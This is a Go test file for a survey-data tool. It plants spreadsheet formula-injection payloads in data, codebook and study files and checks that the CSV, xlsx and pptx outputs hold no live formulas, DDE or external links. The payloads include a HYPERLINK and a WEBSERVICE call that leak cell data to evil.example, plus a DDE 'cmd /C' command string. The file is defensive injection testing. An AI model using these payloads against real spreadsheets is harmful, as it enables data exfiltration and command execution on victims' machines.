package main

import (
	"archive/zip"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// planted are texts that a spreadsheet would run or fetch.
var planted = []string{
	"=1+1-evil", "+evil(1)", "-2+evil", "@SUM(evil)", "\tevil", "\revil", `=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"=cmd|' /C evil'!A0", "＝evil", "'=evil", `=WEBSERVICE("http://evil.example/")`, "='file:///evil.xls'#$S.A1",
}

// plantedFiles are a study, its data and its codebook with such texts wherever a
// text can stand.
func plantedFiles() map[string][]byte {
	var data, book strings.Builder
	d, b := csv.NewWriter(&data), csv.NewWriter(&book)
	d.Write([]string{"w", "q", "=evil", "words", "r", "s"})
	for i := range 240 {
		d.Write([]string{"1", fmt.Sprint(1 + i%2), fmt.Sprint(1 + i%3), planted[i%len(planted)], fmt.Sprint(1 + i%2), fmt.Sprint(1 + i/3%2)})
	}
	b.Write([]string{"variable", "label", "code", "code_label"})
	for i, name := range []string{"q", "=evil", "r", "s"} {
		for code := range 3 - i%2 {
			b.Write([]string{name, planted[i], fmt.Sprint(code + 1), planted[3*i%4+code]})
		}
	}
	d.Flush()
	b.Flush()
	return map[string][]byte{"data.csv": []byte(data.String()), "book.csv": []byte(book.String()), "study.yaml": []byte(plantedStudy), "spec.yaml": []byte("method: rake\nmargins:\n  q: {1: 0.4, 2: 0.6}\n")}
}

const plantedStudy = `surveykit: study/1
title: "=1+evil"
data: [{file: data.csv, codebook: book.csv}]
design: {weight: w}
variables: {s: {label: "@evil", codes: {1: "=evil()", 2: "+2+evil"}}}
recodes: [{name: old, from: r, map: {"=evil": [1], "-1+evil": [2]}}]
tables:
  - {id: a, title: "=2+evil", base: "-1+evil", rows: [q, r], columns: [s, old], chart: {kind: dots, title: "=3+evil", subtitle: "+evil"}}
  - {id: b, rows: [{verbatim: words}]}
  - {id: c, rows: [words], columns: [q], notes: ["=evil"]}
`

// Texts of data, codebooks and studies that a spreadsheet would run, or fetch
// something for, are texts in whatever is written: no formula holds them.
func TestNoFormulaOfOthers(t *testing.T) {
	h := newHome(t, plantedFiles())
	t.Chdir(h.dir)
	for _, line := range []string{
		"run study.yaml --output first", "run study.yaml --output second", "changes first second --output changes.txt",
		"convert data.csv --codebook book.csv converted.csv", "convert data.csv converted.xlsx", "weight data.csv --spec spec.yaml --output weighted.csv",
		"replicate data.csv --weight w --type bootstrap --number 2 --psu s --output replicated.csv",
		"segment latent-class study.yaml --items q,r,s --classes 2 --starts 2 --model model.json --assigned assigned.csv",
		"segment assign model.json study.yaml --output assigned.xlsx",
		"segment typing study.yaml --model model.json --items 2 --title ==1+evil --workbook typing.xlsx",
	} {
		var said strings.Builder
		if status := Main(t.Context(), strings.Fields(line), &said, &said); status != exitDone && status != exitAttention {
			t.Errorf("%s: status %d: %.1000s", line, status, said.String())
		}
	}
	seen := map[string]int{}
	h.must(filepath.WalkDir(h.dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() || h.files[e.Name()] != nil {
			return err
		}
		ending := filepath.Ext(path)
		seen[ending]++
		switch ending {
		case ".csv":
			noFormulaInCSV(t, path)
		case ".xlsx", ".pptx":
			noFormulaInOffice(t, path)
		}
		return nil
	}))
	if seen[".csv"] < 8 || seen[".xlsx"] < 5 {
		t.Errorf("files seen: %v", seen)
	}
}

func noFormulaInCSV(t *testing.T, path string) {
	t.Helper()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	r := csv.NewReader(file)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Errorf("%s: %v", path, err)
	}
	for _, text := range slices.Concat(rows...) {
		if runs.MatchString(text) {
			t.Errorf("%s holds %q", filepath.Base(path), text)
		}
	}
}

var (
	// runs are the texts that spreadsheets take for formulas; -1 is a number.
	runs            = regexp.MustCompile(`^[=@\t\r\n＝＋－＠]|^[+-].*[^0-9.]`)
	formulasOfCells = regexp.MustCompile(`(?s)<(?:f|c:f|formula|formula1|formula2|definedName)\b[^>]*>(.*?)</`)
	textsOfFormulas = regexp.MustCompile(`"(?:[^"]|"")*"`)
	// leadsAway is what makes a document fetch or open something elsewhere.
	leadsAway = regexp.MustCompile(`TargetMode="External"|externalLink|ddeLink|oleLink`)
)

func noFormulaInOffice(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		part, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(part)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range formulasOfCells.FindAllStringSubmatch(string(text), -1) {
			if strings.Contains(textsOfFormulas.ReplaceAllString(html.UnescapeString(m[1]), ""), "evil") {
				t.Errorf("%s: %s has the formula %s", filepath.Base(path), f.Name, m[1])
			}
		}
		if found := leadsAway.Find(text); found != nil {
			t.Errorf("%s: %s has %s", filepath.Base(path), f.Name, found)
		}
	}
}
